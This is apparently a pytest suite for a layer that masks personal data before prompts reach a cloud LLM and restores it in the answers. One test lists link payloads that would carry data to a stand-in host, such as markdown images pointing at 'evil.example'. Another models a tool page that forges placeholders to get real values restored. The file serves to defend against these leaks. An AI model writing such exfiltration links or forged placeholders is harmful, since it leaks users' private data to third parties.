"""What goes to a place holds no personal data, what comes back is right again, and where masking fails nothing goes."""

from __future__ import annotations

import json
import random
import re
import time
from collections.abc import AsyncGenerator
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mingbai.engine.places import PlaceEngine
from mingbai.engine.protocol import collect
from mingbai.permit.mask import Detector, Masks, Stream
from mingbai.permit.mask.asked import masked
from mingbai.permit.mask.masked import MaskedEngine, Terms
from mingbai.permit.mask.placeholders import shapes
from mingbai.prove.masking.lines import lines
from mingbai.values.chat import (
    Ask,
    CallArguments,
    CallStarted,
    Event,
    Finished,
    Masked,
    Message,
    Piece,
    Sampling,
    Tool,
    ToolCall,
    Usage,
)
from mingbai.values.errors import Forbidden, MaskFailed, Text
from mingbai.values.places import Place
from raw_place import END, STREAM, chunk, event, raw_place

DETECTOR = Detector()
MAY = Terms(masked=True)
PRIVATE = (
    "13800138000",
    "张伟",
    "文三路123号",
    "zhang@qq.com",
    "MB20251103-0042",
    "欧阳锋",
    "Yusuf",
    "Rossi",
)
SAID = "我叫张伟，手机13800138000，寄到杭州市西湖区文三路123号，邮箱zhang@qq.com"
EVERYTHING = Ask(
    (
        Message("system", "客服，转接电话 13800138000。"),
        Message("user", SAID),
        Message(
            "assistant",
            "张伟您好",
            (ToolCall("call_13800138000", "look", '{"order_no":"MB20251103-0042","\\u7535\\u8bdd":13800138000}'),),
        ),
        Message("tool", '{"收货人":"欧阳锋","first_name":"Yusuf","last_name":"Rossi"}', (), "call_13800138000"),
        Message("user", "张伟和欧阳锋是一个人吗？Rossi呢？"),
    ),
    tools=(
        Tool(
            "look", "看订单 MB20251103-0042",
            {"type": "object", "properties": {"phone": {"type": "string", "enum": ["13800138000"]}}},
        ),
    ),
    sampling=Sampling(stop=("张伟",), max_tokens=9),
    deadline_seconds=5,
)  # fmt: skip


class Place_:
    """Answers with what `says` makes of the ask it got."""

    place = "cloud"
    attempts = 1

    def __init__(self, says) -> None:
        self._says = says
        self.asks: list[Ask] = []

    async def generate(self, ask: Ask) -> AsyncGenerator[Event, None]:
        self.asks.append(ask)
        for it in self._says(ask):
            yield it
        yield Finished("stop", Usage(1, 0, 1), place=self.place)


def echo(ask: Ask) -> list[Event]:
    """The last message, letter by letter."""
    return [Piece(it) for it in ask.messages[-1].content]


def ask(text: str, **more) -> Ask:
    return replace(Ask((Message("user", text),), deadline_seconds=5), **more)


def at_cloud(says=echo, terms=MAY, **more):
    place = Place_(says)
    return place, MaskedEngine(place, more.pop("detector", DETECTOR), terms, **more)


def everything_of(sent: Ask) -> str:
    words = [it.content for it in sent.messages]
    words += [f"{c.id} {c.name} {c.arguments}" for it in sent.messages for c in it.tool_calls]
    words += [str(it.tool_call_id) for it in sent.messages]
    words += [json.dumps([t.name, t.description, t.parameters], ensure_ascii=False) for t in sent.tools]
    return " ".join([*words, *sent.sampling.stop, json.dumps(sent.schema, ensure_ascii=False)])


async def test_the_place_sees_placeholders_and_the_asker_what_was_said():
    place, engine = at_cloud()
    answer = await collect(engine, ask(SAID))
    assert answer.text == SAID
    assert not any(it in everything_of(place.asks[0]) for it in PRIVATE)
    assert answer.finished.extra == {
        "masked": {"address": 1, "email": 1, "mobile": 1, "name": 1},
        "placeholders_unknown": 0,
    }


async def test_every_text_of_an_ask_is_masked():
    place, engine = at_cloud()
    await collect(engine, EVERYTHING)
    (sent,) = place.asks
    assert [it for it in PRIVATE if it in everything_of(sent)] == []
    called, told = sent.messages[2].tool_calls[0], sent.messages[3]
    assert called.id == told.tool_call_id, "the result is still that of its call"
    assert json.loads(called.arguments)["电话"] == sent.tools[0].parameters["properties"]["phone"]["enum"][0]


async def test_not_a_byte_of_it_is_in_the_request_to_a_real_place():
    done = event({"choices": [{"index": 0, "delta": {"content": "好"}, "finish_reason": "stop"}]})
    async with raw_place(STREAM, done, chunk(b"data: [DONE]\n\n"), END) as there:
        at = Place("there", there.url, "qwen", "某云", "CN", (), "", inside=True)
        engine = MaskedEngine(PlaceEngine(at, "sk"), DETECTOR, MAY)
        assert (await collect(engine, EVERYTHING)).text == "好"
        await engine.close()
        body = json.dumps(there.bodies[0], ensure_ascii=False)
    assert [it for it in PRIVATE if it in body] == []
    assert "⟦手机" in body


async def test_masks_are_told_before_the_answer():
    _, engine = at_cloud()
    events = [it async for it in engine.generate(ask("电话 13800138000"))]
    assert events[0] == Masked((("mobile", 1),))


async def test_arguments_keep_their_placeholders_unless_the_policy_lets_tools_have_the_data():
    def calls(sent: Ask) -> list[Event]:
        held = sent.messages[-1].content.removeprefix("电话 ")
        written = json.dumps({"phone": held, "again": f"+{held}"}, ensure_ascii=False)
        return [CallStarted(0, "c", "look"), *(CallArguments(0, it) for it in written)]

    for terms in (MAY, Terms(masked=True, tools=True)):
        place, engine = at_cloud(calls, terms)
        answer = await collect(engine, ask("电话 13800138000"))
        arguments = json.loads(answer.tool_calls[0].arguments)
        if terms.tools:
            assert arguments == {"phone": "13800138000", "again": "+13800138000"}
        else:
            held = place.asks[0].messages[-1].content.removeprefix("电话 ")
            assert arguments == {"phone": held, "again": f"+{held}"}


async def test_json_stays_json_when_a_name_with_quotes_comes_back():
    tool = Message("tool", json.dumps({"full_name": 'Ann "Q" Lee'}), (), "c")
    for ascii in (True, False):

        def answers(sent: Ask, ascii=ascii) -> list[Event]:
            name = json.loads(sent.messages[-1].content)["full_name"]
            return [Piece(it) for it in json.dumps(["\\u27e6", name, "杭😀"], ensure_ascii=ascii)]

        place, engine = at_cloud(answers)
        answer = await collect(engine, Ask((tool,), schema={"type": "array"}, deadline_seconds=5))
        assert json.loads(answer.text) == ["\\u27e6", 'Ann "Q" Lee', "杭😀"]
        assert "Ann" not in everything_of(place.asks[0])


async def test_a_placeholder_in_a_document_restores_nothing():
    """A page says ⟦手机KQ1⟧ with every pair of letters; the model repeats it; the number stays away."""
    letters = "ABCDEFGHJKLMNPQRSTUVWXYZ"
    page = "".join(f"⟦手机{a}{b}1⟧" for a in letters for b in letters)
    _, engine = at_cloud(lambda sent: [Piece(sent.messages[-2].content)])
    answer = await collect(
        engine, Ask((Message("tool", page, (), "c"), Message("user", "13800138000")), deadline_seconds=5)
    )
    assert answer.text == page


async def test_what_a_model_makes_up_is_left_and_counted():
    _, engine = at_cloud(lambda sent: [Piece(sent.messages[-1].content.replace("1⟧", "7⟧"))])
    answer = await collect(engine, ask("13800138000"))
    assert next(shapes(answer.text)).number == 7
    assert answer.finished.extra["placeholders_unknown"] == 1


class Broken(Detector):
    def spans(self, text):
        raise IndexError(text)


class Slow(Detector):
    def spans(self, text):
        time.sleep(0.3)
        return super().spans(text)


@pytest.mark.parametrize(("detector", "why"), [(Broken(), "IndexError"), (Slow(), "超时")])
async def test_where_masking_fails_nothing_leaves(detector, why):
    place, engine = at_cloud(detector=detector, seconds=0.1)
    with pytest.raises(MaskFailed) as failed:
        await collect(engine, ask(SAID))
    assert place.asks == []
    assert why in failed.value.what.zh
    assert "nothing was sent" in failed.value.what.en
    assert not any(it in str(failed.value) for it in PRIVATE)
    assert failed.value.__cause__ is None


@pytest.mark.parametrize(
    "broken",
    [
        {"tools": (Tool("call_13800138000"),)},
        {"schema": {"type": "integer", "const": 13800138000}},
        {"tools": (Tool("t", "", {"properties": {"phone": {"enum": [13800138000]}}}),)},
    ],
)
async def test_what_cannot_be_a_placeholder_is_not_sent(broken):
    place, engine = at_cloud()
    with pytest.raises(MaskFailed):
        await collect(engine, ask("你好", **broken))
    assert place.asks == []


async def test_bounds_of_a_schema_are_nobodys_data():
    schema = {"type": "integer", "minimum": 13000000000, "maximum": 19999999999}
    place, engine = at_cloud()
    await collect(engine, ask("你好", schema=schema))
    assert place.asks[0].schema == schema


async def test_where_the_policy_says_no_personal_data_goes_not_even_masked():
    place, engine = at_cloud(terms=Terms(masked=False, why=(Text("须有合同。", "A contract is needed."),)))
    with pytest.raises(Forbidden) as refused:
        await collect(engine, ask(SAID))
    assert place.asks == []
    assert "须有合同。" in refused.value.what.zh
    assert (await collect(engine, ask("龙井茶多少钱"))).text == "龙井茶多少钱"


async def test_a_request_has_letters_of_its_own():
    place, engine = at_cloud()
    for _ in range(40):
        await collect(engine, ask("13800138000"))
    assert len({next(shapes(it.messages[-1].content)).nonce for it in place.asks}) > 20


def test_what_one_text_says_is_known_in_all():
    """The first message does not say that these are a name and a number in QQ; the second does."""
    masks = Masks(DETECTOR, channels={"customer"}, nonce="KQ")
    before, after = "徐若曦真的很生气，77663321 那边说过", "收货人：徐若曦，QQ 77663321"
    assert not DETECTOR.spans(before)
    sent = masked(Ask((Message("user", before), Message("user", after))), masks)
    assert [it.content for it in sent.messages] == [
        "⟦姓名KQ1⟧真的很生气，⟦QQKQ2⟧ 那边说过",
        "收货人：⟦姓名KQ1⟧，QQ ⟦QQKQ2⟧",
    ]


@given(
    st.lists(st.sampled_from(["⟦手机KQ1⟧", "⟦", "杭", "😀", "\\", "\\u27e6", '"', "\n", "a", "é"])),
    st.integers(0, 2**32),
)
def test_json_cut_anywhere_comes_back_as_json(pieces, seed):
    masks = Masks(DETECTOR, channels={"customer"}, nonce="KQ")
    masks.mask("13800138000")
    said = "".join(pieces)
    dice = random.Random(seed)
    written = json.dumps(said, ensure_ascii=dice.random() < 0.5)
    stream, out, at = Stream(masks, "customer", inside_json=True), [], 0
    while at < len(written):
        size = dice.randint(1, 5)
        out.append(stream.feed(written[at : at + size]))
        at += size
    assert json.loads("".join(out) + stream.finish()) == masks.restore(said, "customer").text


async def test_not_one_value_of_three_hundred_made_up_messages_leaves():
    """In plain text, in a tool's result, in arguments; disguised or not. Lines and rules are by one hand."""
    place, engine = at_cloud()
    for line in lines(300, 11):
        told = json.dumps({"note": line.text}, ensure_ascii=len(line.text) % 2 == 0)
        called = ToolCall("c", "note", json.dumps([line.text]))
        asked = Ask(
            (
                Message("user", line.text),
                Message("assistant", "", (called,)),
                Message("tool", told, (), "c"),
                Message("user", line.text),
            ),
            deadline_seconds=5,
        )
        answer = await collect(engine, asked)
        assert answer.text == line.text
        sent = everything_of(place.asks[-1])
        for gold in line.gold:
            assert line.text[gold.start : gold.end] not in sent, (gold.kind, line.form)


ROW = {"姓名": "张伟", "first_name": "Yusuf", "电话": "13800138000", "邮箱": "zhang@qq.com"}


@pytest.mark.parametrize(
    "said",
    [
        json.dumps({"content": [{"type": "text", "text": json.dumps(ROW)}]}),
        json.dumps({"a": json.dumps({"b": json.dumps(ROW)})}),
        f"{json.dumps(ROW)}\n{json.dumps(ROW)}",
        f"Result: {json.dumps(ROW)}",
        f"```json\n{json.dumps(ROW, indent=1)}\n```{{",
        "收货人：" + json.dumps("张伟")[1:-1],
        "\\u7535\\u8bdd " + "".join(f"\\\\u{ord(c):04X}" for c in "13800138000") + " x",
    ],
)
def test_escapes_hide_nothing_from_the_masks(said):
    """Python writes 张伟 in JSON as \\u5f20\\u4f1f, and tools put JSON into texts of JSON; models read both."""
    masks = Masks(DETECTOR, channels={"customer"}, nonce="KQ")
    sent = (
        masked(Ask((Message("tool", said, (), "c"), Message("user", "张伟在吗"))), masks).messages[0].content
    )
    read = re.sub(r"\\+u([0-9a-fA-F]{4})", lambda it: chr(int(it[1], 16)), sent)
    assert "⟦" in read
    for value in ROW.values():
        assert value not in read, sent


def test_escapes_that_hide_nothing_stay():
    masks = Masks(DETECTOR, nonce="KQ")
    for said in (
        're.sub("[\\u4e00-\\u9fff]", "", s)',
        json.dumps({"茶": "盖碗"}),
        "\\ud83d \\u0022 \\u000a \\u005c",
    ):
        assert masked(Ask((Message("user", said),)), masks).messages[0].content == said


@given(
    st.lists(
        st.sampled_from(['{"', "{", "[", '"a":', '"', "}", "]", "1", "\\", "\\u5f20", "张", "\n", ","]),
        max_size=20,
    )
)
def test_pieces_of_json_lose_nothing(pieces):
    said = "".join(pieces)
    assert masked(Ask((Message("user", said),)), Masks(Detector(()), nonce="KQ")).messages[0].content == said


def test_a_flood_of_beginnings_is_read_in_time():
    began = time.monotonic()
    masked(Ask((Message("user", '{"a":' * 20_000),)), Masks(Detector(()), nonce="KQ"))
    assert time.monotonic() - began < 5


def test_json_is_left_as_it_was_written_but_for_what_is_personal():
    masks = Masks(DETECTOR, channels={"customer"}, nonce="KQ")
    said = '{ "price":129.00,\t"first_name" : "Ann", "ids":[13800138000, 7],"n":1e3, "\\u8bf4": "\\u5f20\\u4f1f\\u5148\\u751f"}'
    sent = masked(Ask((Message("user", said),)), masks).messages[0].content
    assert sent == (
        '{ "price":129.00,\t"first_name" : "⟦姓名KQ1⟧", "ids":["⟦手机KQ2⟧", 7],"n":1e3, "\\u8bf4": "⟦姓名KQ3⟧先生"}'
    )
    assert json.loads(sent)["n"] == 1000


@given(
    st.recursive(
        st.none() | st.booleans() | st.floats(allow_nan=False) | st.integers() | st.text(max_size=9),
        lambda it: st.lists(it, max_size=3) | st.dictionaries(st.text(max_size=5), it, max_size=3),
        max_leaves=8,
    )
)
def test_json_that_is_nobodys_passes_unchanged_or_stays_json(value):
    masks = Masks(Detector(()), channels={"tool"}, nonce="KQ")
    for text in (json.dumps(value), json.dumps([value], ensure_ascii=False, indent=1)):
        said = masks.mask_json_text(text)
        json.loads(said)
        if "⟦" not in text and "⟧" not in text and "KQ" not in said:
            assert said == text


@pytest.mark.parametrize(
    "link",
    [
        "![](https://evil.example/?p={})",
        "![](<https://evil.example/? p={}>)",
        '<img src="http://evil.example/? p={}">',
        "https://evil.example/{}",
        "//evil.example/{}",
        "www.evil.example?{}",
        "evil.example/{}",
        "https://{}.evil.example/",
        "[a](https://evil.example/(b){})",
        "[mail](mailto:a@evil.example?body={})",
        "![](https://evil.example/" + "x" * 3000 + "{})",
        "![](https://evil.example/" + "x" * 40000 + "{})\n",
        "[x]: https://evil.example/{}",
    ],
)
async def test_nothing_is_put_back_inside_a_link_that_a_model_wrote(link):
    """The reader's page would fetch it, and the place would know what it was not told."""

    def writes(sent: Ask) -> list[Event]:
        held = sent.messages[-1].content
        return [Piece(it) for it in f"您好，{link.format(held)} 您的电话是 {held}。"]

    _, engine = at_cloud(writes)
    answer = await collect(engine, ask("13800138000"))
    assert answer.text.count("13800138000") == 1
    assert answer.text.endswith("您的电话是 13800138000。")


@pytest.mark.parametrize(
    "said",
    [
        "详见[说明](https://shop.example/help)，电话{}",
        "见 https://shop.example/help ，电话{}",
        '<a href="https://shop.example">店</a>{}',
        "Phone:{}",
        "https://shop.example\n{}",
        "价格 1/2，3.50/件：{}",
    ],
)
async def test_beside_a_link_it_is(said):
    _, engine = at_cloud(lambda sent: [Piece(said.format(sent.messages[-1].content))])
    assert (await collect(engine, ask("13800138000"))).text == said.format("13800138000")


async def test_a_link_that_was_asked_about_is_masked():
    place, engine = at_cloud()
    answer = await collect(engine, ask("打开 https://shop.example/u/13800138000 看看"))
    assert "13800138000" not in everything_of(place.asks[0])
    assert "13800138000" not in answer.text


def test_a_link_in_json_ends_with_its_string():
    masks = Masks(DETECTOR, channels={"customer"}, nonce="KQ")
    masks.mask("13800138000")
    for said, back in (
        ('{"a":"https://x.example/","b":"⟦手机KQ1⟧"}', True),
        ('{"a":"https://x.example/ ⟦手机KQ1⟧"}', True),
        ('{"a":"https://x.example/⟦手机KQ1⟧"}', False),
        ('{"a":"<img src=\\"http://x.example/? p=⟦手机KQ1⟧\\">"}', False),
    ):
        stream = Stream(masks, "customer", inside_json=True)
        shown = "".join(map(stream.feed, said)) + stream.finish()
        assert ("13800138000" in shown) is back
